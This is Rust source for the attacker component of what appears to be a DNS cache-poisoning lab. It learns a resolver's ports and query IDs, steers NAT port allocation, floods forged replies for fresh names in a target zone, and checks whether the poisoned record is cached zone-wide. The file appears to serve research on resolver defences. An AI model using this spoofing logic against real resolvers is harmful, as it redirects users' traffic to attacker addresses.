//! What the attacker does: learns what it can, makes the resolver ask, forges, and looks whether it was
//! believed.
//!
//! ```text
//!   learn    the client is made to ask for names of the attacker's own zone:
//!            its server sees address, port and query ID
//!   window   the client is made to ask for a new name of the attacked zone;
//!            until the right reply comes, forged ones are sent
//!   look     what did the client get? and once more: is it in the cache?
//! ```

use std::net::{IpAddr, Ipv4Addr};
use std::time::{Duration, Instant};

use serde::Serialize;

use super::client::Client;
use super::flood::{BATCH, Flood};
use super::guesses::{Guesses, left_free};
use super::network::servers;
use super::scan::NOTHING;
use super::scenario::{Attack, Kind, Scenario, Told};
use super::zones::{ATTACK, BANK, FALSE, forged};
use super::{Event, Race, Tell, scan};
use crate::LabError;
use crate::actor::Seen;

/// Names of its own zone that it has asked for, to learn.
const LESSONS: usize = 12;
/// After it, a flow that nobody uses is gone: conntrack's own time for what was answered once.
const FORGOTTEN: Duration = Duration::from_secs(31);
/// Longer than any resolver takes to give up on a name and say so.
const PATIENCE: Duration = Duration::from_secs(12);

/// What the attacker saw at its own server.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Lesson {
    /// Where the queries came from, each once: what it will forge replies to.
    pub addresses: Vec<Ipv4Addr>,
    /// The ports, in order.
    pub ports: Vec<u16>,
    /// The query IDs, in order.
    pub ids: Vec<u16>,
}

impl Lesson {
    /// The port that all came from, if there is one.
    pub fn fixed_port(&self) -> Option<u16> {
        let first = *self.ports.first()?;
        self.ports.iter().all(|port| *port == first).then_some(first)
    }

    /// Whether the query IDs count up, by a few at a time.
    pub fn ids_count(&self) -> bool {
        self.ids.len() > 2
            && self.ids.windows(2).all(|two| (1..=4).contains(&two[1].wrapping_sub(two[0])))
    }
}

/// What came of it.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Attacked {
    /// What it knew.
    pub lesson: Lesson,
    /// What the scan of ports found, if there was one.
    pub scan: Option<scan::Scanned>,
    /// Names that the resolver was made to ask for.
    pub windows: u64,
    /// Those in which the name was asked over UDP, so that there was something to win.
    pub open: u64,
    /// Windows in which a forged reply was believed; more than one only if it went on after the first.
    pub hits: u64,
    /// Windows in which the client got no address at all.
    pub failures: u64,
    /// Forged packets.
    pub forged: u64,
    /// From the first window on.
    pub seconds: f64,
    /// The first success.
    pub poisoned: Option<Poisoned>,
}

/// A cache with a false record.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Poisoned {
    /// Since the first window began, in seconds.
    pub after: f64,
    /// Which window it was, from 1.
    pub window: u64,
    /// The name that leads astray.
    pub name: String,
    /// Asked once more, it came from the cache.
    pub cached: bool,
    /// All other names of the zone lead astray as well: the resolver believed the name server that came
    /// with the answer.
    pub whole_zone: bool,
}

pub(super) struct Attacker<'a> {
    race: &'a Race,
    scenario: &'a Scenario,
    client: Client,
    flood: Flood,
    tell: Tell<'a>,
}

impl<'a> Attacker<'a> {
    pub(super) fn new(race: &'a Race, tell: Tell<'a>) -> Result<Self, LabError> {
        let client = Client::new(&race.network.client)?;
        let flood = Flood::new(&race.network.attacker)?;
        Ok(Attacker { race, scenario: &race.scenario, client, flood, tell })
    }

    fn attack(&self) -> &'a Attack {
        &self.scenario.attack
    }

    /// The whole programme.
    pub(super) fn run(mut self) -> Result<Attacked, LabError> {
        self.as_in_use()?;
        let lesson = self.learn()?;
        let scan = match self.attack().kind {
            Kind::Scan => Some(scan::run(
                &self.race.network,
                &mut self.client,
                lesson.addresses[0],
                self.scenario,
                self.tell,
            )?),
            _ => None,
        };
        let found = scan.as_ref().and_then(|scan| scan.port);
        let mut guesses = Guesses::new(self.attack(), &lesson, found);
        let mut done = Attacked {
            lesson,
            scan,
            windows: 0,
            open: 0,
            hits: 0,
            failures: 0,
            forged: 0,
            seconds: 0.0,
            poisoned: None,
        };
        // Without the port that it was looking for there is nothing to aim at.
        if self.attack().kind == Kind::Scan && found.is_none() {
            return Ok(done);
        }
        if self.attack().kind == Kind::Steer {
            self.take_ports(done.lesson.addresses[0])?;
        }
        let begun = Instant::now();
        let over = |done: &Attacked| {
            begun.elapsed() > self.scenario.attack.lasts
                || self.scenario.attack.windows.is_some_and(|most| done.windows >= most)
                || done.poisoned.is_some() && !self.scenario.attack.goes_on
        };
        while !over(&done) {
            self.window(&mut done, &mut guesses, begun)?;
            done.seconds = begun.elapsed().as_secs_f64();
            (self.tell)(Event::Progress(&done));
        }
        Ok(done)
    }

    /// What the lab gives away of a query that has just been asked, as the server saw it.
    fn told(&self, name: &str) -> Option<(Told, u16)> {
        let told = self.attack().told?;
        let deadline = Instant::now() + self.scenario.network.delay;
        while Instant::now() < deadline {
            let seen = self.race.bank.take_seen();
            let query = seen.iter().find(|query| query.name.trim_end_matches('.') == name);
            if let Some(query) = query {
                let value = if told == Told::Port { query.peer.port() } else { query.id };
                return Some((told, value));
            }
            std::thread::sleep(Duration::from_micros(100));
        }
        None
    }

    fn asked_over_udp(&self, name: &str) -> bool {
        let seen = self.race.bank.take_seen();
        seen.iter().any(|query| !query.tcp && query.name.trim_end_matches('.') == name)
    }

    /// A resolver in use has asked the zone's servers before, and whoever protects it knows what they can.
    fn as_in_use(&mut self) -> Result<(), LabError> {
        if self.scenario.network.cookies {
            for number in 0..LESSONS {
                self.client.asks(&format!("before{number}.{BANK}"))?;
            }
        }
        Ok(())
    }

    fn learn(&mut self) -> Result<Lesson, LabError> {
        self.race.own.take_seen();
        for number in 0..LESSONS {
            self.client.asks(&format!("lesson{number}.{ATTACK}"))?;
        }
        let mut seen = self.race.own.take_seen();
        seen.retain(|query| !query.tcp && query.name.to_lowercase().contains(ATTACK));
        let mut addresses = Vec::new();
        for query in &seen {
            if let IpAddr::V4(address) = query.peer.ip()
                && !addresses.contains(&address)
            {
                addresses.push(address);
            }
        }
        if addresses.is_empty() {
            let what = "any query at the attacker's own server";
            return Err(LabError::NotReady { what, patience: PATIENCE });
        }
        let ports = seen.iter().map(|query: &Seen| query.peer.port()).collect();
        Ok(Lesson { addresses, ports, ids: seen.iter().map(|query| query.id).collect() })
    }

    /// Conntrack remembers a packet that nobody waited for like any other, and keeps its ports. The NAT
    /// cannot choose them then for a query to this server.
    fn take_ports(&mut self, target: Ipv4Addr) -> Result<(), LabError> {
        // What the resolver asked before has to be forgotten, else it stays on its port.
        std::thread::sleep(FORGOTTEN);
        let free = left_free(&self.attack().ports);
        let taken = self.attack().ports.clone().filter(|port| !free.contains(port));
        let probes: Vec<_> = taken.map(|port| (port, 0)).collect();
        for server in servers(self.scenario.network.servers) {
            self.flood.load(server, target, &NOTHING)?;
            // Twice, should one be lost.
            for some in probes.chunks(BATCH).chain(probes.chunks(BATCH)) {
                self.flood.send(some)?;
            }
        }
        Ok(())
    }

    /// One name, one race.
    fn window(
        &mut self,
        done: &mut Attacked,
        guesses: &mut Guesses,
        begun: Instant,
    ) -> Result<(), LabError> {
        let attack = self.attack();
        let name = format!("r{}.{BANK}", done.windows);
        let all: Vec<_> = servers(self.scenario.network.servers).collect();
        let payload = forged(&name, !attack.goes_on)
            .ok_or(LabError::NotReady { what: "a forged reply", patience: Duration::ZERO })?;
        // One of the servers that may be asked, and one of the addresses; guesses like the others.
        let window = usize::try_from(done.windows).unwrap_or(0);
        let server = all[window % all.len()];
        let addresses = &done.lesson.addresses;
        let target = addresses[window / all.len() % addresses.len()];
        self.flood.load(server, target, &payload)?;
        self.race.bank.take_seen();
        self.client.ask(&name)?;
        let asked = Instant::now();
        let told = self.told(&name);
        guesses.next_window(told);
        if attack.kind == Kind::Steer {
            // The NAT has to have chosen before what is left is taken as well.
            std::thread::sleep(Duration::from_millis(5));
        }
        done.windows += 1;
        let mut sent = 0;
        let mut answer = None;
        let most = attack.packets.unwrap_or(u64::MAX);
        while asked.elapsed() < self.scenario.network.delay && sent < most && answer.is_none() {
            let due = attack.rate * asked.elapsed().as_secs_f64();
            if sent as f64 > due {
                std::thread::sleep(Duration::from_micros(200));
            } else {
                let count = usize::try_from(most - sent).unwrap_or(BATCH).min(BATCH);
                sent += self.flood.send(&guesses.take(count))? as u64;
            }
            answer = self.client.answer(Duration::ZERO);
        }
        done.forged += sent;
        let answer = answer.or_else(|| self.client.answer(PATIENCE));
        done.open += u64::from(told.is_some() || self.asked_over_udp(&name));
        let Some(address) = answer.and_then(|answer| answer.address) else {
            done.failures += 1;
            return Ok(());
        };
        if address == FALSE {
            done.hits += 1;
            if done.poisoned.is_none() {
                done.poisoned = Some(Poisoned {
                    after: begun.elapsed().as_secs_f64(),
                    window: done.windows,
                    cached: self.client.asks(&name)? == Some(FALSE),
                    whole_zone: self.client.asks(&format!("after.{BANK}"))? == Some(FALSE),
                    name,
                });
            }
        }
        Ok(())
    }
}
